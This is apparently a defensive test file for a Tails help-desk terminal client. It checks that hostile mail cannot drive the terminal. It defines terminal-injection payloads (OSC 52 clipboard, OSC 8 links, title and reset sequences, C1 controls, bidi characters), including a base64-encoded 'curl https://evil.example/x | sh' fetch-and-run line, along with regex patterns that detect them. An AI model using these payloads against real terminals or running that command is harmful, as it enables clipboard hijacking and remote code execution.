"""Hostile mail in a real terminal: every byte hdtui writes is recorded (tmux pipe-pane)
while a member walks every screen and form over reports built to attack the terminal.

What must never reach the terminal from mail: OSC 52 (clipboard), OSC 8 (links), OSC 0/2
(window title), RIS (reset), CSI sequences (clear, mouse and cursor modes, leaving the
alternate screen), C1 controls in any encoding. Afterwards tmux's own view of the pane
(mouse tracking, cursor, title, paste buffers) must be what it was. See
docs/text-safety.md.
"""

from __future__ import annotations

import base64
import re
import shutil
import sys
import unicodedata
from collections.abc import Iterator
from email.message import EmailMessage
from pathlib import Path

import pytest

from tests.servers.gitlab_api import GitLabAPI
from tests.support.pgp import KeyPair, short_tmp, whisperback_message, write_maildir
from tests.support.tmux import Tmux, gone, shows

ROOT = Path(__file__).parents[2]
WB = ROOT / "tests" / "data" / "whisperback"
SOCKET = "hdtui-hostile"

pytestmark = pytest.mark.skipif(shutil.which("tmux") is None, reason="tmux not installed")

CLIPBOARD = base64.b64encode(b"curl https://evil.example/x | sh").decode()
# Each attack, as it would be written to the terminal if obeyed.
ATTACKS = {
    "OSC 52 clipboard": f"\x1b]52;c;{CLIPBOARD}\x07",
    "OSC 8 link": "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "OSC 0 title": "\x1b]0;PWNED-TITLE\x07",
    "OSC 2 title": "\x1b]2;PWNED-TITLE2\x1b\\",
    "RIS": "\x1bc",
    "CSI clear": "\x1b[2J\x1b[3J",
    "CSI mouse off": "\x1b[?1000l\x1b[?1003l\x1b[?1006l",
    "CSI cursor on": "\x1b[?25h",
    "CSI leave alternate screen": "\x1b[?1049l",
    "C1 CSI": "\u009b2J",
    "C1 OSC": "\u009d0;PWNED-C1\u009c",
    "bidi": "\u202eevil\u202c",
    "invisible": "a\u200bb\u2060c\ufeffd",
}
HOSTILE = "".join(ATTACKS.values())
WIDE = "日本語のレポート 👨\u200d👩\u200d👧 ❤\ufe0f 👍🏽 🇫🇷 e\u0301"
FORBIDDEN = {  # in the bytes written: (what, pattern)
    "OSC 52": rb"\x1b\]52;",
    "OSC 8": rb"\x1b\]8;",
    "OSC 0/2": rb"\x1b\][02];",
    "RIS": rb"\x1bc",
    "CSI clear": rb"\x1b\[[23]J",
    "CSI mouse off": rb"\x1b\[\?100[036]l",
    "CSI leave alternate screen": rb"\x1b\[\?1049l",
    "C1 as UTF-8": rb"\xc2[\x80-\x9f]",
    # hdtui itself writes no OSC while running but Textual's pointer shape (OSC 22).
    "any other OSC": rb"\x1b\](?!22;)",
}


def hostile_report() -> str:
    """A WhisperBack report with the attacks in every field hdtui shows."""
    text = (WB / "tails-7.5-wifi.txt").read_text(encoding="utf-8")
    text = text.replace("Subject: Wi-Fi networks not listed since upgrade to 7.5",
                        f"Subject: Wi-Fi gone {WIDE} {HOSTILE}")
    text = text.replace("From: kestrel-742@example.org",
                        f"From: kestrel-742@example.org{HOSTILE}")
    version = f'VERSION="7.5{ATTACKS["RIS"]}{ATTACKS["OSC 52 clipboard"]}"'
    text = text.replace('VERSION="7.5"', version)
    text = text.replace("HP 250 G5 Notebook PC", f"HP 250 {HOSTILE}")
    text = text.replace("Connect to the Wi-Fi network at home",
                        f"Connect {HOSTILE} [bold red]markup[/] to the Wi-Fi {WIDE}")
    text = text.replace("BOOT_IMAGE=/live/vmlinuz", f"BOOT_IMAGE=/live/vmlinuz {HOSTILE}")
    return text


def hostile_mail() -> bytes:
    """Plain support mail: attacks in the sender's name, subject, body and attachment name."""
    mail = EmailMessage()
    mail["From"] = f'"Mallory {ATTACKS["OSC 0 title"]}" <mallory@example.org>'
    mail["To"] = "support@tails.net"
    mail["Subject"] = f"Help {WIDE} {HOSTILE}"
    mail["Date"] = "Tue, 03 Nov 2026 10:00:00 +0000"
    mail.set_content(f"Hello,\n{HOSTILE}\nmy Tails does not start {WIDE}.\n")
    mail.add_attachment(b"x", maintype="application", subtype="octet-stream",
                        filename=f"log{ATTACKS['OSC 8 link']}.txt")
    return mail.as_bytes()


TOKEN = "hostile-test-token"


def hostile_issue(gitlab: GitLabAPI) -> None:
    """A known issue written by an attacker (anyone can open one on a public GitLab)."""
    gitlab.add_user(TOKEN, "helpdesk")
    project = gitlab.add_project(2, "tails/tails")
    gitlab.add_issue(project, f"RTL8723BE Wi-Fi {HOSTILE}",
                     f"Realtek RTL8723BE [10ec:b723] no Wi-Fi networks {HOSTILE}\n\n"
                     f"## Standard reply\n\nTry this {HOSTILE} now.\n")
    # And an ordinary one: a tracker of one issue gives every word the same weight (each
    # is in every issue), and once escapes and markup leave no words (rules v60), only the
    # PCI id is left to match; a real tracker has more than one issue.
    gitlab.add_issue(project, "Thunderbird crashes when opening an attachment",
                     "Thunderbird segfaults when an attachment is opened.\n")


tmux = Tmux(SOCKET, "hostile")
wait_for = tmux.wait_for
press = tmux.press

PREVIEW = "escape closes · arrows scroll"
COMPOSE = "ctrl+s send…"
FORWARD = "Forward to a team"
ISSUE = "New GitLab issue"
ISSUE_PREVIEW = "escape: back to editing"
MATCHED = "confidently match"
ALERT = "Alert a team about"
REPRODUCE = "Reproduce checklist"
OUTCOME = "Stop answering, because:"
NOTE = "Personal note"
OUTBOX = "Outbox:"
HELP = "Keys (keymap"
PALETTE = "Search for commands"
HOT = "Hot topics"
RELEASES = "Tails releases"


NO_ONE = "No one to reply to"
"""The hostile report's contact address is no address: replying to it says so (and offers
what can be done instead)."""


def open_close(key: str, *markers: str) -> str:
    """Open a screen with ``key``; return what it showed once one of ``markers`` was there;
    then close it with escape."""
    shown = press(key, until=lambda s: any(m in s for m in markers))
    press("Escape", until=lambda s: not any(m in s for m in markers))
    return shown


def modes() -> str:
    """tmux's view of the pane state that escape sequences could change."""
    return tmux("display-message", "-p", "-t", "hostile",
                "#{mouse_any_flag} #{mouse_standard_flag} #{mouse_button_flag} "
                "#{mouse_sgr_flag} #{cursor_flag} #{alternate_on} #{pane_title}")


@pytest.fixture
def hostile_setup(test_key: KeyPair, xdg: Path, gitlab_api: GitLabAPI) -> Iterator[Path]:
    root = short_tmp("hdh-")
    # The report has no Date: it is dated by the delivery time its name starts with
    # (docs/store.md), 2026-11-06, after the mail's Date: it is the first row.
    write_maildir(root / "Maildir", {
        "1794000001.M1P1.t": whisperback_message(hostile_report(),
                                                 "8c1f3e0a9b7d42e6a5f01c3d9e2b7a64", test_key),
        "1794000002.M2P1.t": hostile_mail(),
    })
    hostile_issue(gitlab_api)
    (root / "config.toml").write_text(f"""
[source]
kind = "maildir"
path = "{root / 'Maildir'}"
[gpg]
home = "{test_key.home}"
[tracker]
url = "{gitlab_api.url}"
project = "tails/tails"
token_env = "HDTUI_GITLAB_TOKEN"
[smtp]
host = "127.0.0.1"
port = 9
security = "plain"
from_address = "Help Desk <support@tails.net>"
[queue]
shift_start = false
[releases]
fetch_at_start = false
news_url = "http://127.0.0.1:9/news.rss"
advisories_url = "http://127.0.0.1:9/advisories.atom"
latest_url = "http://127.0.0.1:9/latest.json"
timeout = 2
[xmpp]
jid = "helpdesk@127.0.0.1"
password_env = "HDTUI_TEST_UNSET"
[[teams]]
name = "Foundations Team"
address = "foundations@tails.net"
gitlab_mention = "@foundations-team"
xmpp = "foundations@127.0.0.1"
""")
    yield root
    tmux("kill-server")
    shutil.rmtree(root, ignore_errors=True)


def start(root: Path, xdg: Path, width: int, height: int) -> Path:
    """hdtui in a fresh tmux pane, every byte it writes recorded from the first frame on."""
    tmux("kill-server")
    record = root / f"bytes-{width}x{height}.bin"
    record.unlink(missing_ok=True)
    command = (
        f"env -i PATH=/usr/local/bin:/usr/bin:/bin HOME={xdg} TERM=xterm-256color "
        f"HDTUI_GITLAB_TOKEN={TOKEN} "
        f"XDG_CONFIG_HOME={xdg}/config XDG_DATA_HOME={xdg}/data XDG_CACHE_HOME={xdg}/cache "
        f"{sys.executable} -m hdtui --config {root / 'config.toml'} </dev/tty; "
        "echo EXITED $?; sleep 30"
    )
    tmux("-f", "/dev/null", "new-session", "-d", "-s", "hostile", "-x", str(width),
         "-y", str(height), "-c", str(ROOT), "sleep 0.5; " + command)
    tmux("set-option", "-g", "set-clipboard", "on")  # OSC 52 would fill a paste buffer
    tmux("pipe-pane", "-o", "-t", "hostile", f"cat >> {record}")
    return record


def check_bytes(record: Path) -> None:
    data = record.read_bytes()
    assert len(data) > 10_000, "nothing recorded"
    found = {what: [data[max(m.start() - 20, 0):m.end() + 30]
                    for m in re.finditer(pattern, data)][:3]
             for what, pattern in FORBIDDEN.items()}
    assert not any(found.values()), {what: seen for what, seen in found.items() if seen}
    text = data.decode("utf-8", errors="surrogateescape")
    c1 = [c for c in text if 0x80 <= ord(c) <= 0x9F or 0xDC80 <= ord(c) <= 0xDC9F]
    assert not c1, f"C1 controls written: {c1[:5]}"
    # The attacks were drawn, as visible symbols.
    assert "\u241b]52;c;".encode() in data
    assert b"<U+202E>" in data


def test_hostile_mail_never_drives_the_terminal(hostile_setup: Path, xdg: Path) -> None:
    record = start(hostile_setup, xdg, 80, 24)
    # Rows come from the header listing first and gain their version once the body is
    # read (docs/cold-start.md), so wait for the version column too: a loaded machine can
    # capture the screen between the two.
    text = wait_for(lambda s: "2/2 shown" in s and "NORMAL SHIFT" in s and "\u241bc" in s,
                    timeout=40)
    before = modes()
    assert "\u241bc" in text  # the version column draws ESC c, never obeys it
    seen: list[str] = []
    for down in (0, 1):  # the report, then the plain mail
        # 80x24 is a pager (docs/layouts.md): enter opens the message full-screen, 3 its
        # known issues, 4 its replies, 1 the queue again.
        press("1", "C-Home", *(["Down"] * down), "Enter",      # the message, shown
              until=lambda s, report=not down: "Reading…" not in s
              and ("wb://" in s) is report and "esc: back" in s)
        seen.append(press("2", "O", "NPage", "NPage"))        # every section open
        press("O")
        press("3", until=lambda s: "Known issues (1)" in s and "matching…" not in s)
        press("Enter", until=shows(PREVIEW))                    # an issue, opened
        press("Escape", until=gone(PREVIEW))
        press("4")
        seen.append(press("Enter", until=shows(PREVIEW)))       # a reply, previewed
        press("Escape", until=gone(PREVIEW))
        press("3", "l", until=shows("Link this report to #1?"))  # link: asked first
        press("y", until=shows("inked to #1"))                   # a note on the server
        press("1")
        seen.append(open_close("r", COMPOSE, NO_ONE))           # reply: compose
        seen.append(open_close("f", FORWARD))                   # forward form
        seen.append(open_close("F", COMPOSE))                   # [FT]
        press("t")                                              # tag
        seen.append(press("I", until=lambda s: ISSUE in s or MATCHED in s))
        if MATCHED in seen[-1]:  # a known issue covers it: "link instead?" first
            seen.append(press("Down", "Enter", until=shows(ISSUE)))  # the issue form
        seen.append(press("C-s", until=shows(ISSUE_PREVIEW)))   # its preview
        press("Escape", until=gone(ISSUE_PREVIEW))
        press("Escape", until=gone(ISSUE))
        press("t")                                              # untag
        seen.append(open_close("A", ALERT))                     # alert a team
        seen.append(open_close("R", REPRODUCE))                 # reproduce checklist
        seen.append(open_close("x", OUTCOME))                   # outcome
        seen.append(open_close("N", NOTE))                      # personal note
        seen.append(open_close("C-o", OUTBOX))                  # outbox
        seen.append(open_close("?", HELP))                      # keys
        seen.append(open_close("C-p", PALETTE))                 # palette
    # Hot topics: counts, then clusters, once counted.
    seen.append(press("H", until=lambda s: HOT in s and "counting" not in s))
    seen.append(press("Down", "Down"))
    press("Escape", until=gone(HOT))
    seen.append(press("L", until=shows(RELEASES)))            # releases (no copy, no fetch)
    seen.append(press())
    press("Escape", until=gone(RELEASES))
    walked = "\n".join(seen)
    for screen_text in ("New GitLab issue", "Forward to a team", "Reproduce checklist",
                        "Personal note", "Keys (keymap", "Outcome", "Subject:", "Hot topics",
                        "Tails releases"):
        assert screen_text in walked, f"never saw {screen_text!r}:\n{walked[-6000:]}"
    wait_for(lambda s: "2/2 shown" in s)
    tmux.wait_stable()
    after = modes()
    tmux("pipe-pane", "-t", "hostile")  # stop recording before quitting (exit resets modes)
    assert after == before, (before, after)
    assert tmux("list-buffers") == ""  # nothing reached the clipboard
    tmux.send("q")
    wait_for(lambda s: "EXITED 0" in s)
    check_bytes(record)


def cells_before(line: str, char: str) -> int:
    """The terminal column of ``char`` in a captured line (wide letters take two)."""
    column = 0
    for c in line[: line.index(char)]:
        if unicodedata.combining(c):
            continue
        column += 2 if unicodedata.east_asian_width(c) in ("W", "F") else 1
    return column


def test_wide_text_never_spills_into_the_next_pane(hostile_setup: Path, xdg: Path) -> None:
    start(hostile_setup, xdg, 160, 45)
    text = wait_for(lambda s: "2/2 shown" in s and "日本語" in s, timeout=40)
    text = wait_for(lambda s: "wb://" in s and "Wi-Fi gone 日本語" in s)
    rows = [line for line in text.splitlines() if "▏" in line and "^p palette" not in line]
    assert len(rows) > 10
    columns = {cells_before(line, "▏") for line in rows}
    assert len(columns) == 1, [line for line in rows if "日本語" in line]
    # Inside the queue too: the version column starts under its heading, whatever the
    # width of the summary before it.
    header = next(line for line in rows if "Summary" in line and "Ver" in line)
    report_row = next(line for line in text.splitlines() if line.startswith("WB"))
    assert "▏" in report_row, report_row  # a cut by characters drew over the separator
    assert cells_before(report_row, "7.5") == cells_before(header, "Ver"), report_row
    tmux.send("q")
    wait_for(lambda s: "EXITED 0" in s)
